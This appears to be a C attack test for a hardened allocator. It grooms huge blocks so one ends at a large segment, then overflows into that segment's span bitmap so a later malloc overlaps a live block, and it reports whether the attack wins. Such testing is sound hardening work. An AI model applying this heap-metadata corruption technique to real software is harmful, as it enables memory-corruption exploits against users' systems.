/* overflow_huge_span_bitmap: linear overflow off the end of a huge block into
 * a large segment's span bitmap, so a live large block is handed out again.
 *
 * Bug modelled: an overflow of 112 bytes past the end of a huge block whose
 * contents the attacker controls; the bytes it must not change are copied
 * from an out-of-bounds read of the same length (the same bug, read side).
 *
 * Steps:
 *  1. malloc(300000) creates a large segment L; the block X sits in slices 1-5.
 *  2. Allocate huge blocks of exactly one segment until one ends where L
 *     starts.
 *  3. Overflow into L's header: span_used (offset 104) := 1, i.e. only the
 *     header slice is marked used; everything else is written back unchanged.
 *  4. malloc(300000) takes the "free" slices starting at slice 1.
 * WIN: the second large block overlaps the live block X.
 * Defence that should stop it: a guard page / gap after each mapping; span
 * bitmap kept out of line or authenticated; a free run re-checked against
 * the slice descriptors (slice 1 still has segment_in_use). */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

int main(void) {
  start(10);
  char* probe = malloc(3 * MIB);
  size_t info = (uintptr_t)probe & (SEG - 1);
  free(hide(probe));

  char* x = malloc(300000);
  memset(x, 'X', 300000);
  uintptr_t lseg = (uintptr_t)x & ~(SEG - 1);
  char* src = NULL;
  for (int i = 0; i < 32 && src == NULL; i++) {
    char* h = malloc(SEG - info);
    if (h == NULL) break;
    if ((uintptr_t)h + malloc_usable_size(h) == lseg) src = h;
  }
  if (src == NULL) lost("no huge block ended right before the large segment at %p", (void*)lseg);
  note("huge block %p ends at large segment %p (live block %p)", (void*)src, (void*)lseg, (void*)x);

  unsigned char* o = (unsigned char*)src + malloc_usable_size(src);
  unsigned char hdr[112];
  memcpy(hdr, o, sizeof hdr);            /* out-of-bounds read */
  uint64_t used;
  memcpy(&used, hdr + 104, 8);
  note("span_used was %#llx", (unsigned long long)used);
  used = 1;
  memcpy(hdr + 104, &used, 8);
  memcpy(o, hdr, sizeof hdr);            /* the overflow */

  char* y = hide(malloc(300000));
  if (y != NULL && y < x + 300000 && x < y + 300000)
    win("malloc(300000) returned %p, overlapping the live large block %p", (void*)y, (void*)x);
  lost("second large block %p does not overlap %p", (void*)y, (void*)x);
}
